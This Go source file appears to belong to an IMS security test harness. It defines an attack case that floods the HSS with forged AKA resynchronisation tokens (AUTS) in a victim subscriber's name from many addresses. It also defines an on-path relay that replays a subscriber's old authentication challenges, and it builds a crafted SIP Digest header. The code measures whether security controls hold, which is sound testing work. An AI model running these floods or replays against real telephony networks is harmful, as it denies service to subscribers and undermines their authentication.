package attack

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"time"

	"imsafe/client/ue"
	"imsafe/proto/sip"
	"imsafe/secure"
)

// akaResyncStorm: somebody says in a user's name, again and again, that her card has seen another sequence number.
func akaResyncStorm() Attack {
	return Attack{
		ID: "ci.aka.resync-storm", Number: "CI-13", Title: "resynchronisations in the victim's name, and old challenges to her",
		Text:     "each makes the HSS verify a token and draw another vector; and who answers a challenge of before talks to whoever has kept its keys",
		Services: []Service{Availability, Authentication}, Stride: Denial, Threats: []Threat{Interruption, Removal}, Module: ServicesControl,
		Source: "TS 33.203 6.1.3", Access: both(), Tight: true,
		Bounds: Bounds{Packets: 1100, Bytes: 900_000, Conns: 30, Time: 4 * time.Second},
		Variants: []Variant{
			{Name: "storm", Position: OffPath, Run: resynchronise, Controls: []secure.ControlID{secure.CIAvailabilityBudgetVector},
				Card: "it is AKA's token that is out of step", Ours: "what tells that the HSS has judged a token is imsafe's own answer"},
			{Name: "replay", Position: OnPath, Access: []Access{IPsec}, Run: challengeAgain, Controls: []secure.ControlID{secure.CIAuthenticationAKA},
				NoAblation: "it is the card that looks at the sequence number (TS 33.102 6.3.3): no setting of a network takes that away"},
		},
	}
}

// The storm: so many tokens from each of so many addresses, each of which has its own budget of requests. Who has proven no address, by UDP, is not heard so often.
const (
	stormRounds, stormFrom   = 20, 25
	breezeRounds, breezeFrom = 12, 1
)

func resynchronise(ctx context.Context, f *Field, o *Outcome) error {
	rounds, from := breezeRounds, breezeFrom
	if f.access == TLS {
		rounds, from = stormRounds, stormFrom
	}
	strangers := make([]*Hand, from)
	for i := range strangers {
		var err error
		if strangers[i], err = f.StrangerAt(ctx, Elsewhere(i)); err != nil {
			return err
		}
	}
	judged, failed := make([]int, from), make([]error, from)
	var all sync.WaitGroup
	for i, h := range strangers {
		all.Go(func() { judged[i], failed[i] = h.storms(ctx, rounds) })
	}
	all.Wait()
	if err := errors.Join(failed...); err != nil {
		return err
	}
	total := 0
	for _, n := range judged {
		total += n
	}
	o.Arrived("%d challenges asked for from %d addresses, and those that came answered with AUTS", rounds*from, from)
	most := TightResyncs * from // a vector for each would be its other budget, which is larger
	if f.Foreign {
		most = rounds * from / 2
	}
	o.Wire(total > most, "of %d forged AUTS the HSS judged %d", rounds*from, total)
	return judgeServed(ctx, f, o)
}

// storms says so often in alice's name that her card is out of step: how many of its tokens the HSS has judged.
func (h *Hand) storms(ctx context.Context, rounds int) (judged int, err error) {
	for range rounds {
		ok, err := h.saysAUTS(ctx, Registering{IMPI: h.f.Alice.IMPI, IMPU: h.f.Alice.IMPU, Expires: 600})
		if err != nil {
			return judged, err
		}
		if ok {
			judged++
		}
	}
	return judged, nil
}

// saysAUTS asks for a challenge and answers it with a token that no card has made. It reports whether the HSS judged that one.
func (h *Hand) saysAUTS(ctx context.Context, r Registering) (bool, error) {
	var challenge *sip.Message
	status, err := h.answeredBy(ctx, h.Registers(r, h.NoResponse(r.IMPI)), &challenge)
	if err != nil || status != 401 {
		return false, err
	}
	c, err := sip.ParseChallenge(challenge.Get(sip.HdrWWWAuthenticate))
	if err != nil {
		return false, fmt.Errorf("attack: %w", err)
	}
	authorization := fmt.Sprintf(`Digest username="%s",realm="%s",nonce="%s",uri="sip:%s",response="00000000000000000000000000000000",auts="AAAAAAAAAAAAAAAAAAA="`,
		r.IMPI, h.f.Domain, c.Nonce, h.f.Domain)
	status, err = h.answered(ctx, h.Registers(r, authorization))
	return status == 504, err // the HSS is unable to comply (TS 24.229 5.4.1.2.1)
}

// judgeServed wants alice to register and bob to reach her; what a budget that holds does to them is a part of every flood.
func judgeServed(ctx context.Context, f *Field, o *Outcome) error {
	if _, err := f.Alice.UE.Register(ctx); err != nil {
		o.Users = 1
		o.Peer(true, "alice cannot register: %v", err)
		return nil
	}
	return judgeReach(ctx, f, o)
}

// challengeAgain stands in the path when carol comes back, and gives her the challenge of her first registration instead of a new one.
func challengeAgain(ctx context.Context, f *Field, o *Outcome) error {
	var old string
	var mu sync.Mutex
	given, refused := 0, 0
	r, err := f.relay(ctx, func(message string) string {
		mu.Lock()
		defer mu.Unlock()
		switch challenge := lineOf(message, "WWW-Authenticate: "); {
		case strings.Contains(message, `auts="`):
			refused++
		case challenge == "":
		case old == "":
			old = challenge
		default:
			given++
			return strings.Replace(message, challenge, old, 1)
		}
		return message
	})
	if err != nil {
		return err
	}
	defer r.Close()
	carol, err := f.party(ctx, Carol, func(c *ue.Config) { c.Proxy = r.at() })
	if err != nil {
		return err
	}
	if _, err := carol.UE.Register(ctx); err != nil {
		return err
	}
	if err := carol.UE.Deregister(ctx); err != nil {
		return err
	}
	err = within(ctx, time.Second, func(ctx context.Context) error {
		_, err := carol.UE.Register(ctx)
		return err
	})
	mu.Lock()
	defer mu.Unlock()
	if given > 0 {
		o.Arrived("carol comes back and gets the challenge of before, %d times", given)
	}
	reached := !errors.Is(err, ue.ErrSync) // it has answered one, or waits inside associations with keys of before
	if reached {
		o.Users = 1
	}
	o.Peer(reached, "of %d old challenges carol's card finds %d out of date; then: %v", given, refused, err)
	return nil
}
